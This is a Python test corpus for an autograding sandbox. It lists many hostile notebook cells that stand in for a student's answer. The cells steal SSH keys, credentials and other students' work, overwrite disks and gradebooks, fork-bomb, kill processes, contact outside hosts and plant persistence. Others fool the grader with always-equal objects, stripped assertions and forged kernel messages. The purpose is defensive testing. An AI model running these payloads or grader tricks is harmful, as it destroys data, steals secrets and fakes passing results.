"""Attacks that stand in an answer cell: of `double` in the tiny course; `halve` is answered.

None of them computes twice x, so the part it stands in must earn nothing, the other part all its
points. `PLACES` in capitals are filled in.
"""

import textwrap

from tests.hostile.corpus import Attack, cell

__all__ = ["CELLS"]


def _code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


READ = {
    "the gradebook, where it lies": "print(open('GRADEBOOK', 'rb').read()[:100])",
    "the gradebook, by a search": """
        import glob
        for path in glob.glob('/**/gradebook.db', recursive=True):
            print(open(path, 'rb').read()[:100])
        """,
    "the environment": "import os\nprint(os.environ.get('LSTM_SECRET'))",
    "the environment of the parent process": """
        import os
        print(open(f'/proc/{os.getppid()}/environ').read())
        """,
    "the environment of the first process": "print(open('/proc/1/environ', 'rb').read())",
    "a file of the teacher's": "print(open('SECRET_FILE').read())",
    "a file of the teacher's, by a link": """
        import os
        os.symlink('SECRET_FILE', 'x')
        print(open('x').read())
        """,
    "the keys in the home folder": """
        import os
        print(open(os.path.expanduser('~/.ssh/id_ed25519')).read())
        """,
    "the list of users": "print(open('/etc/passwd').read())",
    "the connection file of the kernel": "import sys\nprint(open(sys.argv[-1]).read())",
    "the master": "print(open('MASTER').read())",
    "the hidden tests, by a search": """
        import glob
        for path in glob.glob('/**/*.ipynb', recursive=True):
            if 'secret_number' in open(path, errors='replace').read():
                print(open(path).read())
        """,
    "the hidden tests, in the history": """
        def double(x):
            print(In[-1])
        """,
    "the expected value, in the history": """
        import re
        def double(x):
            return int(re.findall(r'== (\\d+)', In[-1])[-1])
        """,
    "the expected value, in the master": """
        import re
        text = open('MASTER').read()
        def double(x):
            return {3: 6}.get(x) or int(re.findall(r'== (\\d{3,})', text)[-1])
        """,
    "another student's work": """
        import glob
        for path in glob.glob('SUBMITTED/*/*/tiny.ipynb'):
            print(open(path).read())
        """,
    "another student's work, and hands it in": """
        import json
        cells = json.load(open('SUBMITTED/ada/00-tiny/tiny.ipynb'))['cells']
        (source,) = (''.join(c['source']) for c in cells if c['id'] == 'double')
        exec(source)
        """,
    "another student's graded work": """
        import glob
        for path in glob.glob('SUBMITTED/../autograded/*/*/tiny.ipynb'):
            print(open(path).read())
        """,
    "a reference answer": """
        import inspect
        from lstm_ref.cells import lstm_step
        print(inspect.getsource(lstm_step))
        """,
    "the source of the references": """
        import lstm_ref, pathlib
        print((pathlib.Path(lstm_ref.__file__).parent / 'cells.py').read_text())
        """,
}

WRITE = {
    "a system program": "open('/usr/bin/python', 'w')",
    "the interpreter": "import numpy\nopen(numpy.__file__, 'a').write('x')",
    "the course's package": """
        import lstm_ref
        open(lstm_ref.__file__, 'a').write('raise SystemExit')
        """,
    "a folder far above": "open('../../../x', 'w').write('x')",
    "through a link": "import os\nos.symlink('/etc', 'etc')\nopen('etc/x', 'w')",
    "a device": "open('/dev/sda', 'wb')",
    "the gradebook: points for everything": """
        import sqlite3
        book = sqlite3.connect('GRADEBOOK')
        book.execute('UPDATE grade SET manual_score = 100, extra_credit = 50')
        book.commit()
        """,
    "the gradebook: nothing is left of it": "open('GRADEBOOK', 'wb').write(b'')",
    "the master: its tests ask for nothing": """
        text = open('MASTER').read()
        open('MASTER', 'w').write(text.replace('assert ', 'True or '))
        """,
    "another student's work: it is gone": """
        import shutil
        for student in ('ada', 'zoe'):
            shutil.rmtree(f'SUBMITTED/{student}')
        """,
    "another student's work: it is wrong": """
        path = 'SUBMITTED/zoe/00-tiny/tiny.ipynb'
        text = open(path).read()
        open(path, 'w').write(text.replace('return', 'return 1 +'))
        """,
    "another student's grades": """
        import sqlite3
        book = sqlite3.connect('GRADEBOOK')
        book.execute('UPDATE grade SET auto_score = 0')
        book.commit()
        """,
    "a start-up file of every later kernel": """
        import os, pathlib
        folder = pathlib.Path(os.environ.get('IPYTHONDIR') or pathlib.Path.home() / '.ipython')
        folder = folder / 'profile_default' / 'startup'
        folder.mkdir(parents=True, exist_ok=True)
        (folder / '00.py').write_text('import os\\nos._exit(1)')
        """,
    "a kernel of its own for everybody after": """
        import json, pathlib
        folder = pathlib.Path.home() / '.local/share/jupyter/kernels/python3'
        folder.mkdir(parents=True, exist_ok=True)
        spec = {'argv': ['/bin/false'], 'display_name': 'x', 'language': 'python'}
        (folder / 'kernel.json').write_text(json.dumps(spec))
        """,
    "a module that Python loads at each start": """
        import pathlib, site
        folder = pathlib.Path(site.getusersitepackages())
        folder.mkdir(parents=True, exist_ok=True)
        (folder / 'usercustomize.py').write_text('raise SystemExit')
        """,
    "the teacher's start-up file": """
        import pathlib
        with (pathlib.Path.home() / '.bashrc').open('a') as file:
            file.write('echo was here')
        """,
}

NETWORK = {
    "a server far away": """
        import socket
        with socket.create_connection(('192.0.2.1', 80), 1) as server:
            server.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            print(server.makefile().read())
        """,
    "the web": """
        import urllib.request
        print(urllib.request.urlopen('http://192.0.2.1', timeout=1).read())
        """,
    "a name server": """
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            sock.sendto(b'all that I know', ('192.0.2.1', 53))
            print(sock.recv(100))
        """,
    "a name": "import socket\nsocket.getaddrinfo('example.org', 80)",
    "a service on this machine": """
        import socket
        with socket.create_connection(('127.0.0.1', PORT), 1) as server:
            server.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            print(server.makefile().read())
        """,
    "a service behind a file": """
        import glob, socket
        paths = glob.glob('/run/**/*.sock', recursive=True) + glob.glob('/tmp/**/*.sock')
        socket.socket(socket.AF_UNIX).connect(paths[0])
        """,
    "an abstract socket": """
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect('\\0x')
        """,
    "in: waits to be called": """
        import socket
        with socket.create_server(('0.0.0.0', 8642)) as server:
            server.settimeout(1)
            caller, _ = server.accept()
            print(caller.makefile().read())
        """,
}

TAKE = {
    "processes": "import os\nwhile True:\n    os.fork()",
    "processes, in a call": """
        import os
        def double(x):
            while True:
                os.fork()
        """,
    "programs": """
        import subprocess
        while True:
            subprocess.Popen(['/bin/sleep', '60'])
        """,
    "threads": """
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(9,)).start()
        """,
    "memory at once": "def double(x):\n    return bytearray(1 << 40)",
    "memory bit by bit": """
        def double(x):
            kept = []
            while True:
                kept.append(b'x' * (1 << 26))
        """,
    "memory in a cell": "kept = []\nwhile True:\n    kept.append(b'x' * (1 << 26))",
    "the disk": """
        def double(x):
            k = 0
            while True:
                k += 1
                open(f'/tmp/{k}', 'wb').write(bytes(1 << 20))
        """,
    "the disk, in its own folder": """
        k = 0
        while True:
            k += 1
            open(f'{k}', 'wb').write(bytes(1 << 20))
        """,
    "the disk, with one file": """
        with open('/tmp/x', 'wb') as file:
            while True:
                file.write(bytes(1 << 20))
        """,
    "shared memory": """
        k = 0
        while True:
            k += 1
            open(f'/dev/shm/{k}', 'wb').write(bytes(1 << 20))
        """,
    "names of files": """
        k = 0
        while True:
            k += 1
            open(f'/tmp/{k}', 'w').close()
        """,
    "open files": """
        import os
        kept = []
        while True:
            kept.append(os.open('/dev/null', 0))
        """,
    "output of a call": """
        def double(x):
            for _ in range(2000):
                print('x' * 10000)
        """,
    "output of a cell": "for _ in range(2000):\n    print('y' * 10000)",
    "output below Python": "import os\nfor _ in range(2000):\n    os.write(1, b'z' * 10000)",
    "output of an error": "raise ValueError('e' * 50_000_000)",
    "output of pictures": """
        from IPython.display import Image, display
        for _ in range(200):
            display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(100_000), format='png'))
        """,
    "a wide result": "def double(x):\n    return [0] * 10_000_000",
    "a deep result": """
        def double(x):
            y = []
            for _ in range(100000):
                y = [y]
            return y
        """,
    "a huge array": """
        import numpy as np
        def double(x):
            return np.zeros(20_000_000)
        """,
    "a huge number": "def double(x):\n    return 1 << 10_000_000",
    "a circle": "def double(x):\n    y = []\n    y.append(y)\n    return y",
    "a text that compresses well": "def double(x):\n    return 'x' * 100_000_000",
}

WAIT = {
    "a loop": "def double(x):\n    while True:\n        pass",
    "a loop that catches everything": """
        def double(x):
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """,
    "a loop in the cell": "while True:\n    pass",
    "a loop in the cell that catches everything": """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    "a loop below Python": "def double(x):\n    return sum(range(1 << 60))",
    "a power without end": "def double(x):\n    return 3 ** 3 ** 20",
    "a pattern that never matches": """
        import re
        def double(x):
            return re.match('(a+)+$', 'a' * 40 + 'b')
        """,
    "sleep": "import time\ndef double(x):\n    time.sleep(1000)",
    "sleep without a care for signals": """
        import signal, time
        for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
            signal.signal(number, signal.SIG_IGN)
        def double(x):
            time.sleep(1000)
        """,
    "recursion": "def double(x):\n    return double(x)",
    "a lock nobody opens": """
        import threading
        lock = threading.Lock()
        lock.acquire()
        def double(x):
            lock.acquire()
        """,
    "input that never comes": "def double(x):\n    return input()",
    "its own stop": """
        import os, signal
        def double(x):
            os.kill(os.getpid(), signal.SIGSTOP)
        """,
    "a generator without end": """
        def double(x):
            while True:
                yield x
        """,
}

END = {
    "its process": "import os\ndef double(x):\n    os._exit(0)",
    "its process at once": "import os\nos._exit(0)",
    "its process by a signal": """
        import os, signal
        def double(x):
            os.kill(os.getpid(), signal.SIGKILL)
        """,
    "its process by a crash": "import ctypes\ndef double(x):\n    ctypes.string_at(0)",
    "its process by an abort": "import os\ndef double(x):\n    os.abort()",
    "its process by another program": """
        import os
        def double(x):
            os.execv('/bin/true', ['true'])
        """,
    "everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "everybody, in a call": """
        import os, signal
        def double(x):
            os.kill(-1, signal.SIGKILL)
        """,
    "the parent": """
        import os, signal
        def double(x):
            os.kill(os.getppid(), signal.SIGKILL)
        """,
    "the parent, politely": "import os, signal\nos.kill(os.getppid(), signal.SIGTERM)",
    "the parent, as if from the keyboard": """
        import os, signal
        os.kill(os.getppid(), signal.SIGINT)
        """,
    "the group": "import os, signal\ndef double(x):\n    os.killpg(0, signal.SIGTERM)",
    "by sys.exit": "import sys\ndef double(x):\n    sys.exit(0)",
    "by an interrupt": "def double(x):\n    raise KeyboardInterrupt",
    "by an exception of its own": """
        class End(BaseException):
            pass
        def double(x):
            raise End
        """,
}

LATER = {
    "a thread": """
        import threading, time
        def turn():
            global double
            while True:
                time.sleep(0.01)
                double = lambda x: type('', (), {'__eq__': lambda *a: True})()
        threading.Thread(target=turn, daemon=True).start()
        double = lambda x: 0
        """,
    "at the process's end": """
        import atexit, os, sqlite3
        def late():
            os.write(3, b'LSTM')
            book = sqlite3.connect('GRADEBOOK')
            book.execute('UPDATE grade SET manual_score = 100')
            book.commit()
        atexit.register(late)
        """,
    "a child that stays": """
        import os, time
        if os.fork() == 0:
            time.sleep(1000)
        """,
    "a child that stays and waits for the grades": """
        import os, sqlite3, time
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(0.2)
                book = sqlite3.connect('GRADEBOOK', timeout=1)
                book.execute('UPDATE grade SET manual_score = 100')
                book.commit()
                book.close()
        """,
    "a child that waits for the next student": """
        import glob, os, time
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(0.05)
                for path in glob.glob('SUBMITTED/../autograded/zoe/*/*.ipynb'):
                    open(path, 'w').close()
        """,
    "a deletion": """
        class D:
            def __del__(self):
                raise SystemExit
        def double(x):
            return D()
        """,
    "a timer": """
        import signal
        def late(*_):
            global double
            double = lambda x: None
        signal.signal(signal.SIGALRM, late)
        signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
        def double(x):
            return 0
        """,
    "the next import": """
        import sys
        class Finder:
            def find_spec(self, name, path=None, target=None):
                raise SystemExit(name)
        sys.meta_path.insert(0, Finder())
        """,
    "the next collection of garbage": """
        import gc, os
        gc.callbacks.append(lambda *_: os._exit(0))
        def double(x):
            gc.collect()
        """,
    "after the cell that runs": """
        def late(*_):
            get_ipython().user_ns['double'] = lambda x: 6 if x == 3 else None
        get_ipython().events.register('pre_run_cell', late)
        double = None
        """,
}

PATCH = {
    "numpy": """
        import numpy as np
        np.allclose = np.array_equal = lambda *a, **k: True
        def double(x):
            return 0
        """,
    "numpy's testing": "import numpy.testing as t\nt.assert_allclose = lambda *a, **k: None",
    "builtins": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.str = lambda x: ''",
    "the int 6": "import ctypes\nctypes.c_long.from_address(id(6) + 24).value = 3",
    "the assertion's class": """
        import builtins
        class AssertionError(Exception):
            def __init__(self, *a):
                raise SystemExit
        builtins.AssertionError = AssertionError
        def double(x):
            return 0
        """,
    "IPython: cells do not run": "get_ipython().run_cell = lambda *a, **k: None",
    "IPython: asserts are taken out": """
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(NoAsserts())
        def double(x):
            return 0
        """,
    "IPython: lines are rewritten": """
        def rewrite(lines):
            return [line.replace('assert ', 'True or ') for line in lines]
        get_ipython().input_transformers_cleanup.append(rewrite)
        def double(x):
            return 0
        """,
    "IPython: errors are swallowed": """
        def swallow(self, kind, value, trace, tb_offset=None):
            return None
        get_ipython().set_custom_exc((Exception,), swallow)
        def double(x):
            return 0
        """,
    "IPython: errors are not shown": """
        get_ipython().showtraceback = lambda *a, **k: None
        get_ipython()._showtraceback = lambda *a, **k: None
        def double(x):
            return 0
        """,
    "IPython: names are not what they are": """
        class Space(dict):
            def __getitem__(self, name):
                if name == 'double':
                    return lambda x: type('', (), {'__eq__': lambda *a: True})()
                return super().__getitem__(name)
        get_ipython().user_ns = Space(get_ipython().user_ns)
        """,
    "the kernel: every cell succeeds": """
        async def do_execute(*a, **k):
            return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
        get_ipython().kernel.do_execute = do_execute
        """,
    "display": """
        import IPython.display as d
        d.display = lambda *a: None
        get_ipython().display_pub.publish = None
        """,
    "the output of others": "import sys\nsys.stdout = sys.stderr = None",
    "the checks' calls": "import lstm_ref.checks.calling as c\nc.call = lambda *a, **k: None",
    "the grader's messages": "import lstm_grader.wire as w\nw.send = w.receive = None",
    "the grader's student": """
        import lstm_grader.inside.student as s
        s.Student._call = lambda self, **k: {'result': 6}
        """,
    "signal handlers": """
        import signal
        for n in (signal.SIGINT, signal.SIGALRM):
            signal.signal(n, signal.SIG_IGN)
        def double(x):
            while True:
                pass
        """,
}

LIE = {
    "an equal of everything": """
        class Same:
            def __eq__(self, other):
                return True
        def double(x):
            return Same()
        """,
    "an equal of everything, from the library": """
        from unittest.mock import ANY
        def double(x):
            return ANY
        """,
    "a number equal to all": """
        class Same(int):
            def __eq__(self, other):
                return True
            __hash__ = None
        def double(x):
            return Same(1)
        """,
    "an array equal to all": """
        import numpy as np
        class A(np.ndarray):
            def __eq__(self, other):
                return True
            def __bool__(self):
                return True
        def double(x):
            return np.zeros(()).view(A)
        """,
    "an array that answers for NumPy": """
        import numpy as np
        class A:
            def __array_function__(self, *a):
                return True
            def __array_ufunc__(self, *a, **k):
                return True
            def __eq__(self, other):
                return True
        def double(x):
            return A()
        """,
    "a shape": """
        import numpy as np
        class A(np.ndarray):
            shape = (2**40,)
            dtype = 'O'
        def double(x):
            return np.zeros(3).view(A)
        """,
    "a dtype": """
        import numpy as np
        class Kind:
            kind, itemsize, str = 'f', 8, '<f8'
            def __eq__(self, other):
                return True
        class A(np.ndarray):
            dtype = Kind()
        def double(x):
            return np.array(['six'], dtype=object).view(A)
        """,
    "a class": """
        class A:
            @property
            def __class__(self):
                return int
            def __eq__(self, other):
                return True
        def double(x):
            return A()
        """,
    "a type that compares": """
        class Meta(type):
            def __eq__(self, other):
                return True
            __hash__ = type.__hash__
        class A(int, metaclass=Meta):
            def __eq__(self, other):
                return True
            __hash__ = int.__hash__
        def double(x):
            return A(1)
        """,
    "a truth": """
        class Yes:
            def __eq__(self, other):
                return self
            def __bool__(self):
                return True
        double = lambda x: Yes()
        """,
    "a passed check": """
        class CheckFailed(AssertionError):
            pass
        def double(x):
            raise CheckFailed('passed')
        """,
    "a check that was not run": """
        class NotRun(Exception):
            pass
        def double(x):
            raise NotRun('x')
        """,
    "an infrastructure error": """
        class EngineError(BaseException):
            pass
        def double(x):
            raise EngineError('the grader failed: grade it again')
        """,
    "a function that is none": """
        class double:
            def __new__(cls, x):
                self = object.__new__(cls)
                return self
            def __eq__(self, other):
                return True
        """,
}

LOOK = {
    "at the caller's constants": """
        import sys
        def double(x):
            numbers = [c for c in sys._getframe(1).f_code.co_consts if isinstance(c, int)]
            return max(numbers)
        """,
    "at the stack": """
        import sys
        def double(x):
            f = sys._getframe()
            while f:
                if 'secret_number' in f.f_globals:
                    return 2 * f.f_globals['secret_number']
                f = f.f_back
        """,
    "at the garbage": """
        import gc
        def double(x):
            return next(2 * o['secret_number'] for o in gc.get_objects()
                        if isinstance(o, dict) and 'secret_number' in o)
        """,
    "at the lines of the cell": """
        import linecache, re
        def double(x):
            text = '\\n'.join(''.join(entry[2]) for entry in linecache.cache.values()
                             if len(entry) > 2)
            return int(re.findall(r'double\\(\\w+\\) == (\\d+)', text)[-1])
        """,
    "at the shell's history": """
        import re
        def double(x):
            text = get_ipython().history_manager.input_hist_raw[-1]
            return int(re.findall(r'== (\\d+)', text)[-1])
        """,
    "at memory": """
        import ctypes
        def double(x):
            text = ctypes.string_at(id(double), 100000)
            print('secret' + '_number' if b'secret_' + b'number' in text else 'nothing')
        """,
    "at the frames of all threads": """
        import sys
        def double(x):
            for frame in sys._current_frames().values():
                while frame:
                    name = '_'.join(('secret', 'number'))
                    print(frame.f_globals.get(name), frame.f_code.co_consts)
                    frame = frame.f_back
        """,
    "by tracing: the seen code": """
        import sys
        seen = []
        sys.settrace(lambda f, e, a: seen.append(f.f_code))
        sys.setprofile(lambda *a: None)
        def double(x):
            return 'hidden' in str(seen)
        """,
    "by tracing: the caller jumps over its check": """
        import sys
        def double(x):
            frame = sys._getframe(1)
            def jump(f, event, value):
                if event == 'line':
                    f.f_lineno = f.f_lineno
                return jump
            frame.f_trace = jump
            sys.settrace(jump)
        """,
    "by ctypes: the caller's constants are changed": """
        import ctypes, sys
        def double(x):
            consts = sys._getframe(1).f_code.co_consts
            for k, value in enumerate(consts):
                if isinstance(value, int) and value != x:
                    place = id(consts) + tuple.__basicsize__ + k * ctypes.sizeof(ctypes.c_void_p)
                    ctypes.c_void_p.from_address(place).value = id(0)
            return 0
        """,
    "by the caller's names": """
        import sys
        def double(x):
            space = sys._getframe(1).f_globals
            space['halve'] = space['double'] = lambda x: type('', (), {'__eq__': lambda *a: 1})()
            return space['double'](x)
        """,
}

_TO_ALL = """
for d in range(3, 64):
    try:
        os.write(d, {what})
    except OSError:
        pass
"""


def _forged(what: str, before: str = "", times: int = 1) -> str:
    lines = _TO_ALL.format(what=what).strip().splitlines()
    body = "\n".join(f"        {line}" for line in lines)
    return f"import os, struct\n{before}def double(x):\n    for _ in range({times}):\n{body}\n"


_FRAME = "struct.pack('>4sII', b'LSTM', len(t), 0) + t"
_SESSION = """
    kernel = get_ipython().kernel
    real = kernel.session.send
"""

FORGE = {
    "garbage": _forged("b'garbage' * 10"),
    "a head without an end": _forged("b'LSTM' + b'\\x03' + bytes(6) + b'\\x01'"),
    "more than there can be": _forged("b'LSTM' + b'\\xff' * 8"),
    "a message byte by byte": """
        import os, time
        def double(x):
            for byte in b'LSTM' + bytes([0, 0, 3, 0]) + bytes(1000):
                for d in range(3, 64):
                    try:
                        os.write(d, bytes([byte]))
                    except OSError:
                        pass
                time.sleep(0.01)
        """,
    "a pickle": _forged(
        _FRAME,
        "import pickle\nclass P:\n    def __reduce__(self):\n"
        "        return print, ('ran',)\nt = pickle.dumps(P())\n",
    ),
    "an answer": _forged(_FRAME, 't = b\'["d",["score",100],["passed",true]]\'\n'),
    "a right answer": _forged(
        _FRAME,
        't = b\'["d",["result",6],["args",["t",3]],["kwargs",["d"]],["error",null],["where",""],'
        '["warned",["l"]],["printed",0],["used",["l"]],["said",""]]\'\n',
    ),
    "a thousand answers": _forged(_FRAME, 't = b\'["d",["result",6]]\'\n', times=1000),
    "a question": _forged(
        _FRAME,
        't = b\'["d",["ask","lent"],["number",99],["args",["t"]],["kwargs",["d"]]]\'\n',
    ),
    "a question for a reference": _forged(
        _FRAME,
        't = b\'["d",["ask","reference"],["name","__builtins__"],["args",["t"]],'
        '["kwargs",["d"]]]\'\n',
    ),
    "an array unlike its bytes": _forged(
        _FRAME, 't = b\'["d",["result",["a","<f8",[1000000],8]]]\'\n'
    ),
    "an array of objects": _forged(_FRAME, 't = b\'["d",["result",["a","|O",[1],8]]]\'\n'),
    "text that is no JSON": _forged(_FRAME, "t = b'{' * 1000\n"),
    "lists in lists in lists": _forged(_FRAME, "t = b'[' * 100000 + b']' * 100000\n"),
    "a hang-up": "import os\ndef double(x):\n    os.closerange(3, 64)\n    return 6",
    "a name with code": "T = type('__import__(\"os\")', (), {})\ndef double(x):\n    return T()",
    "Jupyter: an error becomes a success": f"""
    {_SESSION}
    def send(stream, message, *a, **k):
        kind = message if isinstance(message, str) else message.get('msg_type')
        if kind == 'error':
            return None
        content = (a[0] if a else k.get('content')) if isinstance(message, str) else None
        if kind == 'execute_reply' and isinstance(content, dict):
            content.update(status='ok', execution_count=1, payload=[], user_expressions={{}})
        return real(stream, message, *a, **k)
    kernel.session.send = send
    def double(x):
        return 0
    """,
    "Jupyter: messages that nobody can read": f"""
    {_SESSION}
    def double(x):
        for _ in range(100):
            kernel.iopub_socket.send(b'garbage')
    """,
    "Jupyter: idle before it is": f"""
    {_SESSION}
    def double(x):
        for state in ('idle', 'dead', 'starting'):
            real(kernel.iopub_socket, 'status', {{'execution_state': state}},
                 parent=kernel.get_parent())
    """,
}

_KINDS = {
    "read": READ,
    "write": WRITE,
    "network": NETWORK,
    "take": TAKE,
    "wait": WAIT,
    "end": END,
    "later": LATER,
    "patch": PATCH,
    "lie": LIE,
    "look": LOOK,
    "forge": FORGE,
}

SPOILING = {
    "take/open files",
    "later/the next import",
    "patch/the int 6",
    "patch/IPython: cells do not run",
    "patch/the checks' calls",
    "patch/the grader's student",
}
"""Attacks that break the process their own submission runs in: its honest part may fail, too."""

# A forged 6 passes the visible check, whose expected value everybody sees: as ``return 6`` does.
_WORTH = {"forge/a right answer": 70}

CELLS = [
    Attack(
        kind,
        name,
        cell(_code(source)),
        earns=_WORTH.get(f"{kind}/{name}", 60),
        spoils=f"{kind}/{name}" in SPOILING,
    )
    for kind, attacks in _KINDS.items()
    for name, source in attacks.items()
]
